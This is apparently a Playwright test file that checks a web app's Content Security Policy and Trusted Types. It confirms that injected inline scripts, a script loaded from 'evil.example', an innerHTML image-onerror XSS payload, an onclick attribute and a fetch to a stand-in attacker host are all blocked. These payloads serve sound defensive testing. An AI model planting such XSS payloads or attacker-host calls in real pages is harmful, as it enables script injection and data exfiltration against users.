import { expect, test } from '../support/pages'

declare global {
  interface Window {
    injected?: boolean
  }
}

test.describe('what somebody smuggles into a page', () => {
  test('an inline script in the HTML does not run', async ({ page, faults }) => {
    await page.route('/', async (route) => {
      const response = await route.fetch()
      const html = await response.text()
      await route.fulfill({
        response,
        body: html.replace('</body>', '<script>window.injected = true</script></body>'),
      })
    })
    await page.goto('/')
    expect(await page.evaluate(() => window.injected)).toBeUndefined()
    expect(faults.join()).toContain('script-src')
    faults.length = 0
  })

  test('a script from elsewhere, and markup as a string, are refused by Trusted Types', async ({
    page,
    faults,
  }) => {
    await page.goto('/')
    const refused = await page.evaluate(() =>
      [
        () => {
          document.createElement('script').src = 'https://evil.example/x.js'
        },
        () => {
          document.body.innerHTML = '<img src=x onerror=alert(1)>'
        },
        () => {
          document.body.setAttribute('onclick', 'alert(1)')
        },
      ].map((attack) => {
        try {
          attack()
          return 'ran'
        } catch (error) {
          return (error as Error).name
        }
      }),
    )
    expect(refused).toEqual(['TypeError', 'TypeError', 'TypeError'])
    faults.length = 0
  })

  test('data may not leave for other hosts', async ({ page, faults }) => {
    await page.goto('/')
    const sent = await page.evaluate(() =>
      fetch('https://evil.example/').then(
        () => true,
        () => false,
      ),
    )
    expect(sent).toBe(false)
    expect(faults.join()).toContain('connect-src')
    faults.length = 0
  })
})
